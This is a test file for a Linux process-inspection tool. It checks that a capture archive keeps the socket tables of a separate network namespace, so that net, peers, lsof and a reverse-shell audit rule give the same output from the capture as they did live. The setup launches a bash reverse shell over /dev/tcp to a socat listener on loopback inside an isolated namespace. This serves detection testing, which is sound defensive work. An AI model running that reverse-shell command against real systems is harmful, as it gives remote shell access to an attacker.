/**
 * A capture keeps the socket tables of every network namespace: a listener and a reverse shell in
 * a namespace of their own (`unshare --net`, then `nsenter --net`) read back with `--root` as
 * they did live — net, peers, lsof and audit's reverse-shell rule — from a .tar.gz (extracted to a
 * directory, read as a capture directory is). Neither socket is in the capturing process's own
 * tables, so reading those would fail. One capture only: a whole capture takes a minute on a
 * loaded 2-core machine.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../helpers/cli.js";
import { type LiveProcess, startProcess } from "../helpers/live.js";
import { waitUntil } from "../helpers/wait.js";

const base = fs.mkdtempSync(path.join(os.tmpdir(), "procscope-capture-netns-"));
afterAll(() => fs.rmSync(base, { recursive: true, force: true }));

const PORT = 7777; // the namespace is new: nothing else listens there

async function json(args: readonly string[]): Promise<unknown> {
  const result = await runCli([...args, "--json"]);
  expect(result.code, `${args.join(" ")}: ${result.stderr}`).toBe(0);
  return JSON.parse(result.stdout);
}

/**
 * A capture cannot ask the kernel for UNIX socket peers (sock_diag answers for the running
 * system), so `net --root` says so in errors.peers; the sockets themselves must be equal.
 */
/** sock_diag answers for the running kernel only: a capture says peers and backlogs were not captured. */
function withoutPeersError(table: unknown): unknown {
  const { errors, ...rest } = table as { errors: Record<string, string> };
  const { peers: _, backlog: __, ...others } = errors;
  return { ...rest, errors: others };
}

/**
 * A capture leaves out the capturing process (this test's worker: runCli runs in-process), which
 * shares an inherited pipe with every child it starts.
 */
/**
 * This test process and its ancestors (vitest, npm, the shell that started them): the pipes they
 * share with the processes under test come and go as those ancestors run other commands.
 */
function usAndAncestors(): Set<number> {
  const pids = new Set<number>();
  for (let pid = process.pid; pid > 1 && !pids.has(pid); ) {
    pids.add(pid);
    const stat = fs.readFileSync(`/proc/${pid}/stat`, "latin1");
    pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
  }
  return pids;
}

function withoutUs(channels: unknown): unknown {
  const us = usAndAncestors();
  return (channels as { ends: { pid: number }[] }[])
    .map((c) => ({ ...c, ends: c.ends.filter((e) => !us.has(e.pid)) }))
    .filter((c) => new Set(c.ends.map((e) => e.pid)).size >= 2);
}

/**
 * lsof rows, the columns lsof prints. Left out: what a stat through the link says (not captured;
 * see capture.test.ts), and fdinfo, which live listings skip for sockets while a capture, whose
 * fd types cannot come from a stat, reads it for every fd.
 */
function lsofColumns(rows: unknown): unknown {
  return (rows as { fds: Record<string, unknown>[] }[]).map(({ fds, ...p }) => ({
    ...p,
    fds: fds.map(({ pid, fd, type, target, path, inode, deleted, mode, anonKind }) => ({
      pid,
      fd,
      type,
      target,
      path,
      inode,
      deleted,
      mode,
      anonKind,
    })),
  }));
}

function socketInode(pid: number, fd: number): number | undefined {
  try {
    const m = /^socket:\[(\d+)\]$/.exec(fs.readlinkSync(`/proc/${pid}/fd/${fd}`));
    return m ? Number(m[1]) : undefined;
  } catch {
    return undefined;
  }
}

describe("capture of a process in another network namespace", () => {
  let listener: LiveProcess;
  let shell: LiveProcess;
  let shellSocket: number;
  const tarball = path.join(base, "snap.tar.gz");
  const live: Record<string, unknown> = {};
  const commands = (): Record<string, string[]> => ({
    netListener: ["net", String(listener.pid)],
    netShell: ["net", String(shell.pid)],
    peers: ["peers", String(shell.pid)],
    lsof: ["lsof", "--pid", `${listener.pid},${shell.pid}`],
    audit: ["audit", String(shell.pid), "--rules", "reverse-shell"],
  });

  beforeAll(async () => {
    // unshare and sh exec into socat, so listener.pid is socat's, which keeps listening (fork: a
    // child of it takes the connection); its stdin is the test's pipe (kept open).
    listener = await startProcess(
      "unshare",
      ["--net", "sh", "-c", `ip link set lo up && exec socat -d -d TCP-LISTEN:${PORT},bind=127.0.0.1,reuseaddr,fork STDIO 2>&1`],
      { ready: "listening on" },
    );
    shell = await startProcess(
      "nsenter",
      [`--net=/proc/${listener.pid}/ns/net`, "bash", "-c", `exec bash <>/dev/tcp/127.0.0.1/${PORT} >&0 2>&0`],
      { stdio: "ignore" },
    );
    await listener.waitFor("accepting connection");
    shellSocket = await waitUntil("bash to hold the socket", () => socketInode(shell.pid, 0));
    for (const [name, args] of Object.entries(commands())) live[name] = await json(args);
    const packed = await runCli(["capture", "-o", tarball]);
    expect(packed.code, packed.stderr).toBe(0);
  }, 400_000);

  it("is really in another namespace: the capturing process's own tables lack its sockets", async () => {
    expect(fs.readlinkSync(`/proc/${shell.pid}/ns/net`)).not.toBe(fs.readlinkSync("/proc/self/ns/net"));
    const own = (await json(["net"])) as { sockets: { inode: number }[] };
    expect(own.sockets.map((s) => s.inode)).not.toContain(shellSocket);
    const nsInode = /\d+/.exec(fs.readlinkSync(`/proc/${shell.pid}/ns/net`))?.[0] as string;
    const listing = execFileSync("tar", ["-tvzf", tarball], { encoding: "utf8", maxBuffer: 1 << 28 });
    expect(listing).toContain(`proc/${shell.pid}/net -> ../netns/${nsInode}\n`);
    expect(listing).toMatch(new RegExp(`proc/netns/${nsInode}/tcp\n`));
  });

  it("live, net shows the listener and the connection, and audit calls the shell critical", () => {
    const listenerNet = live.netListener as { sockets: { state: string; localPort: number; owners: { pid: number }[] }[] };
    expect(listenerNet.sockets.some((s) => s.state === "LISTEN" && s.localPort === PORT)).toBe(true);
    const netShell = live.netShell as { sockets: { inode: number; remotePort: number }[] };
    expect(netShell.sockets.find((s) => s.inode === shellSocket)?.remotePort).toBe(PORT);
    const peers = live.peers as { kind: string; ends: { pid: number }[] }[];
    const tcp = peers.find((c) => c.kind === "tcp");
    const pids = new Set(tcp?.ends.map((e) => e.pid));
    expect(pids.has(shell.pid)).toBe(true);
    expect(pids.size).toBe(2); // the shell and the socat child that accepted it
    const findings = live.audit as { rule: string; severity: string; pid: number }[];
    expect(findings).toMatchObject([{ rule: "reverse-shell", severity: "critical", pid: shell.pid }]);
  });

  it("net, peers, lsof and audit --root CAPTURE give what they gave live", async () => {
    for (const [name, args] of Object.entries(commands())) {
      const captured = await json([...args, "--root", tarball]);
      if (name === "lsof") expect(lsofColumns(captured), name).toEqual(lsofColumns(live[name]));
      else if (name.startsWith("net")) expect(withoutPeersError(captured), name).toEqual(withoutPeersError(live[name]));
      else if (name === "peers") expect(withoutUs(captured), name).toEqual(withoutUs(live[name]));
      else expect(captured, name).toEqual(live[name]);
    }
  }, 120_000);
});
